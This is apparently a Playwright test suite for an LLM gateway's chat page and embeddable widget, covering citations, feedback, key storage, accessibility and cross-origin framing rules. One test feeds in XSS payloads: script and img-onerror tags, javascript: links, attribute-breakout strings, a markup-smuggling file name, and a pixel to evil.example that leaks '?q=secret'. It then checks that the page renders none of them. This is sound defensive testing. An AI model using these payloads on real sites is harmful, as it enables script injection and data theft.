"""The chat page and its widget, in a real browser, in front of a real gateway."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from chromium import Visitor, chromium
from gateway_process import GatewayProcess, free_port, until
from playwright.sync_api import Browser, Page, expect
from sample_gateway import key_entry
from upstream.vendor import Vendor

expect.set_options(timeout=30_000)

ROOT = Path(__file__).parents[2]
KEY, SLOW, PUBLIC = "sk-gw-canary-page-11ab", "sk-gw-canary-slow-22cd", "sk-gw-canary-public-33ef"
DESKTOP, PHONE = {"width": 1280, "height": 800}, {"width": 390, "height": 780}
ANSWER = """Parental leave is **fourteen weeks** [1]. Contractors have less [2].

| who | weeks |
| --- | --- |
| employees | 14 |

```python
weeks = 14
```

1. Ask your manager.
2. Fill in the form at [the portal](https://hr.example.com/form).
"""
HOSTILE = """Hello <img src="https://evil.example/a.png" onerror="alert(1)"> [1]

<script>alert(2)</script>

![pixel](https://evil.example/b.png?q=secret) [click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)

[1]: https://evil.example/phish

<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name=key></form>

<a href="https://evil.example/" style="position:fixed;inset:0">everything</a> <svg onload=alert(5)> [local](/admin/keys)

[x](https://ok.example/ "t\\" onmouseover=alert(6) x=\\"")

```"><script>alert(7)</script>
code
```
"""


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    with Site() as made:
        yield made


class Site:
    """Somebody's web site: at an origin that the gateway knows (127.0.0.1), and at one that it does not (localhost)."""

    def __init__(self) -> None:
        self.port = free_port()
        self.known, self.other = f"http://127.0.0.1:{self.port}", f"http://localhost:{self.port}"
        self.html = ""
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = site.html.encode() if self.path == "/" else b""
                self.send_response(200 if body else 204)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("", self.port), Handler)

    def __enter__(self) -> Site:
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(10)


@pytest.fixture(scope="module")
def served(shared_vendor: Vendor, site: Site, tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayProcess]:
    folder = tmp_path_factory.mktemp("page")
    (folder / "docs").mkdir()
    (folder / "docs" / "leave.md").write_text(
        "# Leave\n\nThe office is closed on Sundays. Parental leave for employees is fourteen weeks. Ask early.\n"
    )
    (folder / "docs" / "contractors.md").write_text("# Contractors\n\nContractors have parental leave of two weeks.\n")
    mock = {
        "kind": "openai_compatible", "base_url": shared_vendor.url, "api_key": shared_vendor.api_key,
        "retries": {"attempts": 0}, "prices": {"*": {"input": 100, "output": 100}},
        "circuit": {"failures": 1_000_000, "within": "1h", "pause": "1ms", "longest": "1ms"},
    }  # fmt: skip
    chat = {"targets": ["mock/leave"], "prompt": "handbook@1", "retrieval": {"collection": "leave", "top_k": 2}}
    configuration = {
        "records": {"content": "on"},
        "access": {
            "keys": [
                key_entry("visitor", KEY, tenant="a"),
                key_entry("slow", SLOW, tenant="a", limits={"requests_per_minute": 1}),
                key_entry("public", PUBLIC, tenant="web", models=["leave"], endpoints=["chat.completions", "feedback"]),
            ],
        },
        "cors": {"origins": [site.known]},
        "page": {
            "title": "Ask HR", "suggestions": ["How long is parental leave?"], "notice": "Answers can be wrong.",
            "widget": {"origins": [site.known]},
        },
        "providers": {"mock": mock, "local": {"kind": "local_embeddings"}},
        "prompts": {"folder": str(ROOT / "configs" / "prompts")},
        "retrieval": {"collections": {"leave": {"load": [str(folder / "docs")]}}},
        "models": {
            "leave": {"description": "Answers about leave", **chat},
            "general": {"targets": ["mock/general"]},
            "guarded": {
                "targets": ["mock/general"],
                "guardrails": {
                    "input": [{"check": "keywords", "lists": [{"kind": "birds", "words": ["parrot"]}], "action": "block"}]
                },
            },
            "embedder": {"targets": ["local/all-MiniLM-L6-v2"]},
        },
    }  # fmt: skip
    with GatewayProcess(configuration, folder) as running:
        until(lambda: httpx.get(running.url + "/readyz").json()["status"] == "ready", 120, "the knowledge")
        yield running
        assert "Traceback" not in running.output, running.output
        for secret in (KEY, SLOW, PUBLIC):
            assert secret not in running.output


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as made:
        yield made


@pytest.fixture
def visit(browser: Browser, served: GatewayProcess, vendor: Vendor) -> Callable[..., Any]:
    vendor.behaviours["leave"] = {"text": ANSWER, "lenient": True}

    @contextmanager
    def visit(key: str | None = KEY, also: tuple[str, ...] = (), **context: Any) -> Iterator[Visitor]:
        """Somebody on the page, signed in with `key`; in the end, nothing has happened that must not."""
        visitor = Visitor(browser, served.url, **{"viewport": DESKTOP, **context})
        try:
            if key is not None:
                visitor.page.goto(served.url)
                sign_in(visitor.page, key)
            yield visitor
        except BaseException:
            visitor.context.close()
            raise
        visitor.close(*also)

    return visit


def sign_in(page: Page, key: str) -> None:
    page.get_by_label("Your key").fill(key)
    page.get_by_role("button", name="Continue").click()
    expect(page.get_by_label("Your question")).to_be_visible()


def ask(page: Any, text: str) -> Any:
    """Ask, and wait for the end of the answer, good or bad."""
    before = page.locator(".reply").count()
    page.get_by_label("Your question").fill(text)
    page.get_by_label("Your question").press("Enter")
    reply = page.locator(".reply").nth(before)
    expect(reply).to_have_attribute("aria-busy", "false", timeout=30_000)
    return reply


def choose(page: Page, model: str) -> None:
    page.get_by_label("Model").select_option(model)


# -- asking -------------------------------------------------------------------------------------------------
def test_a_visitor_asks_looks_at_the_sources_and_at_how_it_came_about(visit: Any, served: GatewayProcess) -> None:
    with visit(key=None) as visitor:
        page = visitor.page
        page.goto(served.url)
        page.get_by_label("Your key").fill("sk-gw-wrong")
        page.get_by_role("button", name="Continue").click()
        expect(page.get_by_role("alert")).to_contain_text("Incorrect API key")
        sign_in(page, KEY)
        assert page.title() == "Ask HR"
        expect(page.get_by_role("main")).to_contain_text("Answers about leave")
        assert page.get_by_label("Model").locator("option").all_inner_texts() == ["leave", "general", "guarded"]

        page.get_by_role("button", name="How long is parental leave?").click()
        reply = page.locator(".reply")
        expect(reply).to_have_attribute("aria-busy", "false")
        expect(reply.locator("strong")).to_have_text("fourteen weeks")
        assert reply.locator("table td").all_inner_texts() == ["employees", "14"]
        assert reply.locator("pre").inner_text().strip() == "weeks = 14"
        link = reply.get_by_role("link", name="the portal")
        assert (link.get_attribute("rel"), link.get_attribute("target")) == ("noopener noreferrer nofollow", "_blank")
        expect(reply.locator(".line")).to_contain_text("tokens · $0.00")

        cite = reply.get_by_role("button", name="Source 1", exact=True)
        cite.click()
        panel = page.get_by_role("complementary", name="Sources")
        marked = panel.locator(".source.opened mark")
        assert "leave" in " ".join(marked.all_inner_texts())
        assert "closed on Sundays" not in " ".join(marked.all_inner_texts())
        assert "weeks" in panel.locator(".source").nth(1).inner_text()
        page.keyboard.press("Escape")
        expect(cite).to_be_focused()

        page.get_by_role("button", name="Why this answer").click()
        why = page.get_by_role("complementary", name="Why this answer")
        expect(why.get_by_role("rowheader", name="retrieval")).to_be_visible()
        for fact in ("mock/leave", "handbook@1", "Who answered", "What it was given"):
            expect(why).to_contain_text(fact)
        bar = why.locator(".track i").last
        assert bar.bounding_box()["width"] >= 1  # type: ignore[index]  # it is on the page
        call = json.loads(why.locator("pre").text_content() or "")
        told = httpx.get(f"{served.url}/v1/calls/{call['id']}", headers={"authorization": f"Bearer {KEY}"}).json()
        assert (told["id"], told["answer"]) == (call["id"], ANSWER)


def test_a_visitor_says_what_an_answer_was_worth(visit: Any) -> None:
    with visit() as visitor:
        page = visitor.page
        ask(page, "How long?")
        with page.expect_response("**/v1/feedback") as rated:
            page.get_by_role("button", name="Bad answer").click()
        assert rated.value.status == 201
        assert rated.value.request.post_data_json["score"] == 0
        expect(page.get_by_role("button", name="Bad answer")).to_have_attribute("aria-pressed", "true")
        page.get_by_label("What was wrong, or missing?").fill("It is sixteen.")
        with page.expect_response("**/v1/feedback") as said:
            page.get_by_role("button", name="Send").click()
        assert said.value.status == 201
        assert said.value.request.post_data_json["comment"] == "It is sixteen."
        expect(page.get_by_text("Thank you.")).to_be_visible()


def test_a_visitor_stops_asks_again_and_edits(visit: Any, vendor: Vendor) -> None:
    vendor.behaviours["general"] = {"text": "word " * 2000, "piece": 5, "gap": 0.02}
    with visit() as visitor:
        page = visitor.page
        choose(page, "general")
        page.get_by_label("Your question").fill("Tell me a lot")
        page.keyboard.press("Enter")
        expect(page.locator(".reply")).to_contain_text("word")
        page.get_by_role("button", name="Stop").click()
        expect(page.locator(".reply .note")).to_have_text("Stopped here.")
        until(lambda: not vendor.unsettled, 20, "the end of the call at the vendor")  # it costs nothing more

        vendor.behaviours["general"] = {"text": "A short answer."}
        page.get_by_role("button", name="Answer again").click()
        expect(page.locator(".reply .prose")).to_have_text("A short answer.")
        assert len(vendor.requests) == 2
        assert vendor.requests[1].body["messages"] == [{"role": "user", "content": "Tell me a lot"}]

        ask(page, "And then?")
        assert [m["role"] for m in vendor.requests[-1].body["messages"]] == ["user", "assistant", "user"]
        page.get_by_role("button", name="Edit this question").first.click()
        page.get_by_label("Edit your question").fill("Tell me little")
        page.get_by_role("button", name="Ask again").click()
        expect(page.locator(".bubble")).to_have_text("Tell me little")  # what followed it is gone
        expect(page.locator(".reply .prose")).to_have_text("A short answer.")
        assert vendor.requests[-1].body["messages"] == [{"role": "user", "content": "Tell me little"}]

        page.get_by_role("button", name="New conversation").click()
        expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()
        page.get_by_role("button", name="Tell me a lot", exact=True).click()
        expect(page.locator(".bubble")).to_have_text("Tell me little")
        page.get_by_role("button", name="Delete “Tell me a lot”").click()
        expect(page.locator(".bubble")).to_have_count(0)


def test_what_goes_wrong_is_told_with_what_to_do(visit: Any, vendor: Vendor) -> None:
    with visit() as visitor:
        page = visitor.page
        choose(page, "guarded")
        vendor.behaviours["general"] = {"text": "Fine."}
        blocked = ask(page, "What does the parrot eat?")
        expect(blocked.get_by_role("alert")).to_contain_text("A guardrail stopped this")
        expect(blocked.get_by_role("alert")).to_contain_text("Edit your question")
        after = ask(page, "Hello")
        expect(after.locator(".prose")).to_have_text("Fine.")
        assert vendor.requests[-1].body["messages"] == [{"role": "user", "content": "Hello"}]

        choose(page, "general")
        vendor.behaviours["general"] = {"status": 500}
        failed = ask(page, "Are you there?")
        expect(failed.get_by_role("alert")).to_contain_text("The model could not answer")
        vendor.behaviours["general"] = {"text": "Half of an answer that ", "piece": 4, "die_after": 4}
        failed.get_by_role("button", name="Try again").click()
        broken = page.locator(".reply").last
        expect(broken.locator(".prose")).to_contain_text("Half")
        expect(broken.get_by_role("alert")).to_contain_text("The answer broke off")

    with visit(SLOW) as visitor:
        page = visitor.page
        choose(page, "general")
        vendor.behaviours["general"] = {"text": "Fine."}
        if ask(page, "One").get_by_role("alert").count() == 0:
            ask(page, "Two")
        limited = page.locator(".reply").last
        expect(limited.get_by_role("alert")).to_contain_text("Rate limit reached")
        expect(limited.get_by_role("button", name="Try again in")).to_be_disabled()


# -- what must not happen -----------------------------------------------------------------------------------
def test_nothing_that_a_model_or_a_document_says_runs(visit: Any, vendor: Vendor) -> None:
    vendor.behaviours["general"] = {"text": HOSTILE, "piece": 3, "lenient": True}
    name = 'x"><img src=https://evil.example/c onerror=alert(8)>.md'
    with visit() as visitor:
        page = visitor.page
        choose(page, "general")
        page.get_by_role("button", name="Documents").click()
        text = f"# Title <img src=x onerror=alert(9)>\n\nSay hello to everybody. {HOSTILE}"
        page.get_by_label("Files to add").set_input_files(
            [{"name": name, "mimeType": "text/markdown", "buffer": text.encode()}]
        )
        expect(page.locator(".upload.ready")).to_have_count(1, timeout=60_000)
        expect(page.locator(".upload .name")).to_have_text(name)
        page.keyboard.press("Escape")
        reply = ask(page, "Say hello to everybody. <b>bold</b>")
        expect(page.locator(".bubble")).to_have_text("Say hello to everybody. <b>bold</b>")
        prose = reply.locator(".prose")
        expect(prose).to_contain_text("<script>alert(2)</script>")
        assert prose.locator("img, script, iframe, form, input, svg, [style], [onerror], [onmouseover]").count() == 0
        links = [a.get_attribute("href") for a in prose.locator("a").all()]
        # A picture is a link to it, and `[1]: …` no definition of what [1] is.
        assert links == [
            "https://evil.example/b.png?q=secret",
            "https://evil.example/phish",
            "https://ok.example/",
        ], links
        reply.get_by_role("button", name="Source 1", exact=True).first.click()
        panel = page.get_by_role("complementary")
        expect(panel.locator(".opened .passage")).to_be_visible()
        panel.get_by_role("button", name="Show it in the document").first.click()
        expect(panel.get_by_role("region", name="The document").locator("mark")).not_to_be_empty()
        assert panel.locator("img, script, iframe, form, input, [onerror]").count() == 0
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Why this answer").click()
        expect(page.get_by_role("complementary").locator(".summary")).to_be_visible()


@pytest.mark.parametrize("url", ["https://[", "http://", "https://evil.example:99999/", "javascript:alert('http://')"])
def test_a_source_whose_address_is_none_is_shown_all_the_same(visit: Any, url: str) -> None:
    """Whatever stands there, in a document's record or in what a target sends, breaks nobody's page."""
    source = {
        "document_id": "d", "version": "1", "section_id": "s", "collection": "c", "score": 0.5, "title": "Forged",
        "url": url, "quote": "a quote",
    }  # fmt: skip
    frames = [
        {"choices": [{"index": 0, "delta": {"content": "Yes [1]."}}], "rag": {"sources": [source]}},
        {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]},
    ]
    body = "".join(f"data: {json.dumps(frame)}\n\n" for frame in frames) + "data: [DONE]\n\n"
    with visit() as visitor:
        page = visitor.page
        page.route("**/v1/chat/completions", lambda route: route.fulfill(content_type="text/event-stream", body=body))
        reply = ask(page, "May I?")
        reply.get_by_role("button", name="Source 1", exact=True).first.click()
        panel = page.get_by_role("complementary")
        expect(panel.locator(".opened .passage")).to_have_text("a quote")
        assert panel.locator("a[href^='javascript']").count() == 0


def test_the_key_stays_in_the_tab_unless_it_is_to_be_remembered(visit: Any, served: GatewayProcess) -> None:
    stored = "JSON.stringify([{...localStorage}, document.cookie])"
    with visit() as visitor:
        page = visitor.page
        ask(page, "How long?")
        assert KEY not in page.evaluate(stored)
        assert page.evaluate("indexedDB.databases()") == []
        page.reload()
        expect(page.get_by_label("Your question")).to_be_visible()
        expect(page.locator(".bubble")).to_have_count(0)
        other = visitor.context.new_page()
        other.goto(served.url)
        expect(other.get_by_label("Your key")).to_be_visible()
        other.close()
        assert not any(KEY in request.url for request in visitor.requests)

    with visit(key=None) as visitor:
        page = visitor.page
        page.goto(served.url)
        page.get_by_label("Remember it on this device").check()
        sign_in(page, KEY)
        assert KEY in page.evaluate(stored)
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("Keep conversations on this device").check()
        page.keyboard.press("Escape")
        ask(page, "How long?")
        other = visitor.context.new_page()
        other.goto(served.url)
        other.get_by_role("button", name="How long?", exact=True).click()
        expect(other.locator(".reply strong")).to_have_text("fourteen weeks")
        other.get_by_role("button", name="Settings").click()
        other.get_by_label("Keep conversations on this device").uncheck()
        other.keyboard.press("Escape")
        other.get_by_role("button", name="Settings").click()
        other.get_by_role("button", name="Sign out").click()
        expect(other.get_by_label("Your key")).to_be_visible()
        until(lambda: other.evaluate("indexedDB.databases()") == [], 20, "what was kept to be gone")
        assert KEY not in other.evaluate(stored)
        other.close()


# -- documents ----------------------------------------------------------------------------------------------
def test_a_visitor_adds_documents_and_asks_them(visit: Any, vendor: Vendor) -> None:
    vendor.behaviours["general"] = {"text": "It eats walnuts [1].", "lenient": True}
    with visit() as visitor:
        page = visitor.page
        choose(page, "general")
        page.get_by_role("button", name="Documents").click()
        dialog = page.get_by_role("dialog", name="Documents")
        dialog.get_by_label("Name of a new collection").fill("Pets")
        dialog.get_by_role("button", name="Create").click()
        expect(dialog.get_by_role("checkbox", name="Pets")).to_be_checked()
        files = [
            {"name": "minutes.md", "mimeType": "text/markdown", "buffer": b"# Minutes\n\nThe parrot eats walnuts."},
            {"name": "photo.bin", "mimeType": "application/octet-stream", "buffer": b"\x00\x01"},
        ]
        dialog.get_by_label("Files to add").set_input_files(files)
        expect(dialog.locator(".upload.ready .name")).to_have_text("minutes.md", timeout=60_000)
        expect(dialog.locator(".upload.failed")).to_contain_text("photo.bin", timeout=60_000)
        expect(dialog.locator(".upload.failed")).to_contain_text("can't be loaded")
        expect(dialog.locator(".stores")).to_contain_text("1 file, 1 failed")
        page.keyboard.press("Escape")
        reply = ask(page, "What does the parrot eat?")
        assert "The parrot eats walnuts." in json.dumps(vendor.requests[-1].body["messages"])
        reply.get_by_role("button", name="Source 1", exact=True).click()
        expect(page.get_by_role("complementary").locator("mark")).to_have_text("The parrot eats walnuts.")
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Settings").click()
        page.get_by_role("button", name="Sign out").click()
        sign_in(page, SLOW)  # at the same desk
        page.get_by_role("button", name="Documents").click()
        expect(dialog).to_be_visible()
        expect(dialog.locator(".upload")).to_have_count(0)


# -- everybody ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("scheme", "viewport"), [("light", DESKTOP), ("dark", PHONE)], ids=["light, wide", "dark, narrow"]
)
def test_axe_finds_nothing(
    visit: Any, vendor: Vendor, served: GatewayProcess, scheme: str, viewport: dict[str, int]
) -> None:
    found: dict[str, list[str]] = {}
    with visit(key=None, color_scheme=scheme, viewport=viewport, reduced_motion="reduce") as visitor:
        page = visitor.page
        page.goto(served.url)
        expect(page.get_by_label("Your key")).to_be_visible()
        found["sign in"] = visitor.axe()
        sign_in(page, KEY)
        found["empty"] = visitor.axe()
        reply = ask(page, "How long?")
        page.get_by_role("button", name="Good answer").click()
        expect(page.get_by_label("What was good about it?")).to_be_visible()
        reply.get_by_role("button", name="Source 1", exact=True).click()
        found["answer and sources"] = visitor.axe()
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Why this answer").click()
        page.get_by_text("The whole record").click()
        found["why"] = visitor.axe()
        page.keyboard.press("Escape")
        choose(page, "general")
        vendor.behaviours["general"] = {"status": 500}
        ask(page, "Are you there?")
        found["fault"] = visitor.axe()
        page.get_by_role("button", name="Documents").click()
        expect(page.get_by_role("dialog")).to_be_visible()
        found["documents"] = visitor.axe()
        page.keyboard.press("Escape")
        if viewport is PHONE:
            page.get_by_role("button", name="Conversations").click()
        page.get_by_role("button", name="Settings").click()
        found["settings"] = visitor.axe()
        sideways = page.evaluate("document.documentElement.scrollWidth > innerWidth")
    faults = {state: each for state, each in found.items() if each}
    assert faults == {}, faults
    assert not sideways


def test_all_of_it_works_with_the_keyboard_alone(visit: Any) -> None:
    with visit() as visitor:
        page = visitor.page
        focused = "document.activeElement.matches"

        def tab_to(selector: str, key: str) -> None:
            for _ in range(60):
                if page.evaluate(f"{focused}({selector!r})"):
                    return
                page.keyboard.press(key)
            raise AssertionError(f"{key} does not reach {selector}")

        tab_to("#question", "Tab")
        page.keyboard.type("How long?")
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("For employees.")
        page.keyboard.press("Enter")
        expect(page.locator(".reply")).to_have_attribute("aria-busy", "false")
        assert page.locator(".bubble").inner_text() == "How long?\nFor employees."
        expect(page.get_by_role("status").filter(has_text="The answer is complete, from 2 sources.")).to_have_count(1)
        tab_to("button.cite", "Shift+Tab")
        page.keyboard.press("Enter")
        expect(page.get_by_role("complementary", name="Sources")).to_be_visible()
        assert page.evaluate(f"{focused}('.source.opened button')")
        page.keyboard.press("Escape")
        assert page.evaluate(f"{focused}('button.cite')")
        tab_to("[aria-label='Good answer']", "Tab")
        page.keyboard.press("Space")
        expect(page.get_by_label("What was good about it?")).to_be_visible()
        tab_to(".comment textarea", "Tab")
        page.keyboard.press("Escape")
        tab_to("#model", "Shift+Tab")
        page.keyboard.press("ArrowDown")
        tab_to(".sidebar .new", "Shift+Tab")
        page.keyboard.press("Enter")
        expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()


def test_a_phone_has_room_for_all_of_it(visit: Any) -> None:
    with visit(viewport=PHONE, has_touch=True, is_mobile=True) as visitor:
        page = visitor.page
        reply = ask(page, "How long?")
        reply.get_by_role("button", name="Source 2", exact=True).tap()
        panel = page.get_by_role("complementary", name="Sources")
        box = panel.bounding_box()
        assert box is not None
        assert box["width"] == PHONE["width"]
        panel.get_by_role("button", name="Close").tap()
        page.get_by_role("button", name="Conversations").tap()
        page.get_by_role("navigation").get_by_role("button", name="New conversation").tap()
        expect(page.get_by_role("navigation")).to_have_count(0)
        expect(page.get_by_role("heading", name="What would you like to know?")).to_be_visible()


# -- other sites --------------------------------------------------------------------------------------------
def test_the_widget_answers_on_a_known_site_and_its_page_can_not_look_in(
    visit: Any, served: GatewayProcess, site: Site
) -> None:
    site.html = (
        "<!doctype html><title>Shop</title><h1>Shop</h1><style>button { display: none } * { color: red !important }</style>"
        "<script>const widgetFrame = () =>"
        " [...document.body.children].find((e) => e.shadowRoot).shadowRoot.querySelector('iframe')</script>"
        f'<script src="{served.url}/widget.js" data-key="{PUBLIC}" data-model="leave" data-title="Ask the shop" '
        'data-greeting="How can we help?"></script>'
    )
    with visit(key=None, also=(site.known,)) as visitor:
        page = visitor.page
        page.goto(site.known)
        page.get_by_role("button", name="Ask a question").click()
        frame = page.frame_locator("iframe[title='Ask the shop']")
        expect(frame.get_by_role("heading", name="How can we help?")).to_be_visible()
        reply = ask(frame, "How long is parental leave?")
        expect(reply.locator("strong")).to_have_text("fourteen weeks")
        with page.expect_response("**/v1/feedback") as rated:
            reply.get_by_role("button", name="Good answer").click()
        assert rated.value.status == 201
        looked = page.evaluate(
            "() => { try { return widgetFrame().contentWindow.document.body.innerText } catch (e) { return e.name } }"
        )
        assert looked == "SecurityError", looked
        assert not any(PUBLIC in request.url for request in visitor.requests)
        assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
        assert page.frames[1].evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
        reply.get_by_role("button", name="Source 1", exact=True).click()
        panel = frame.get_by_role("complementary", name="Sources")
        expect(panel.locator("mark").first).to_be_visible()
        page.keyboard.press("Escape")
        expect(panel).to_have_count(0)
        expect(frame.get_by_label("Your question")).to_be_visible()
        frame.get_by_label("Your question").press("Escape")
        expect(page.locator("iframe")).to_be_hidden()
        expect(page.get_by_role("button", name="Ask a question")).to_be_focused()


def test_no_other_site_may_show_the_widget_or_the_page(
    browser: Browser, served: GatewayProcess, vendor: Vendor, site: Site
) -> None:
    framed = {f"{served.url}/widget", f"{served.url}/"}
    site.html = "<!doctype html>" + "".join(f'<iframe src="{url}"></iframe>' for url in sorted(framed))
    visitor = Visitor(browser, served.url)

    def refused() -> set[str]:
        visitor.page.evaluate("0")  # lets Playwright hear of what has happened
        return {request.url for request in visitor.requests if request.failure}

    visitor.page.goto(site.other)
    until(lambda: refused() == framed, 20, "the browser's refusal of both")
    assert not any("/page/" in request.url for request in visitor.requests)
    visitor.requests.clear()
    visitor.page.goto(site.known)
    until(lambda: refused() == {f"{served.url}/"}, 20, "its refusal of the page, which nobody may frame")
    assert visitor.page.frame_locator("iframe").last.locator("#app").count() == 1
    visitor.context.close()


def test_pages_of_named_origins_may_call_the_api_and_no_others(
    browser: Browser, served: GatewayProcess, vendor: Vendor, site: Site
) -> None:
    site.html = "<!doctype html><title>x</title>"
    call = """async ([url, key]) => {
        try {
            const answer = await fetch(url + '/v1/chat/completions', {method: 'POST',
                headers: {authorization: `Bearer ${key}`, 'content-type': 'application/json', 'x-stainless-lang': 'js'},
                body: JSON.stringify({model: 'general', messages: [{role: 'user', content: 'hi'}]})})
            return [answer.status, answer.headers.get('x-gateway-target'), (await answer.json()).object]
        } catch (failure) { return failure.name }
    }"""
    visitor = Visitor(browser, served.url)
    page = visitor.page
    page.goto(site.known)
    assert page.evaluate(call, [served.url, KEY]) == [200, "mock/general", "chat.completion"]
    page.goto(site.other)
    assert page.evaluate(call, [served.url, KEY]) == "TypeError"
    visitor.context.close()
    assert len(vendor.requests) == 1  # the browser asked before, and did not send it
